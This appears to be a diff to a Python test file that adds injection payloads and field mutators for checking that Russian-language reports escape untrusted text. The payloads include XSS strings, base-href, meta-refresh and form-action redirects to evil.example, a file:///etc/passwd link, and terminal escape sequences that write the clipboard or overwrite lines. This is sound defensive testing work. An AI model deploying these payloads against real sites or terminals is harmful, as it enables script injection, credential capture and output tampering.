@@ -29,6 +29,19 @@ PAYLOADS: Final = {
     "separators": "а\u2028б\u2029в\x85г\x0b",
     "cdata": "]]><!-- <![CDATA[ <!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
     "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
+    "script address": "javascript:alert(1)",
+    "title's end": "</title></head><body onload=alert(1)>",
+    "style's end": "</style><style>*{display:none}</style><script>alert(1)</script>",
+    "attribute's end": "\"><img src=http://evil.example/x.png onerror=alert(1)>' onmouseover='alert(1)' x='",
+    "drawing": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "other base": "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><form action=//evil.example>",
+    "text area's end": "</select></textarea></noscript><iframe srcdoc='<script>alert(1)</script>'>",
+    "entities": "&lt;script&gt;alert(1)&#x3c;/script&#x3e;&quot;&#39;",
+    "template": "{{ 7 * 7 }}{% raw %}{{ say('x') }}{# #}",
+    "style rule": "*/}body{display:none}/*",
+    "console's markup": "[/b] [link=file:///etc/passwd]жми[/link] :smile: [bold red]ж[/]",
+    "overwriting": "слово\r\x1b[1A\x1b[2K\x08\x08\x0e",
+    "device control": "\x1bP$q\x1b\\\x1b]52;c;eA==\x07\x1b[6n\x90\x9d0;x\x9c",
     "command": "слово\n::error::взлом\r\n::set-output name=x::y\r::add-mask::z",
     "command where a line is wrapped": "слово ::error::взлом " * 20,
     "old command": "##[error]взлом",
@@ -82,10 +95,43 @@ def _sticker_emoji(report: Report, text: str) -> Report:
     return _change(report, excerpt=lambda excerpt: None if excerpt is None else f"[стикер {text}]")
 
 
+def _warning(report: Report, text: str) -> Report:
+    return _change(report, of_chat={"warnings": [msgspec.structs.replace(each, text=f"Запись «{text}» пропущена.") for each in report.chat.warnings]})
+
+
+def _roster_name(report: Report, text: str) -> Report:
+    results = [
+        msgspec.structs.replace(each, reason=f"Не оповещены: {text}.", needs_text=[text for _ in each.needs_text]) for each in report.recommendations
+    ]
+    return _change(msgspec.structs.replace(report, recommendations=results), explanation=lambda _: f"С семьёй {text} не связались.")
+
+
+def _rulebook(report: Report, text: str) -> Report:
+    """Words of a rulebook that somebody else wrote."""
+    results = [
+        msgspec.structs.replace(
+            each,
+            title=text,
+            clause=text,
+            why=text,
+            advice=each.advice and text,
+            beyond_letter=each.beyond_letter and text,
+            questions=[text for _ in each.questions],
+            rules=[msgspec.structs.replace(rule, title=text) for rule in each.rules],
+        )
+        for each in report.recommendations
+    ]
+    named = msgspec.structs.replace(report.rulebook, title=text, name=text, version=text)
+    return _change(msgspec.structs.replace(report, recommendations=results, rulebook=named), explanation=lambda _: text, signs=lambda _: [text])
+
+
 FIELDS: Final[dict[str, Callable[[Report, str], Report]]] = {
     "title": _title,
     "file name": _file_name,
     "author": _author,
     "text": _text,
     "sticker emoji": _sticker_emoji,
+    "warning": _warning,
+    "roster name": _roster_name,
+    "rulebook": _rulebook,
 }
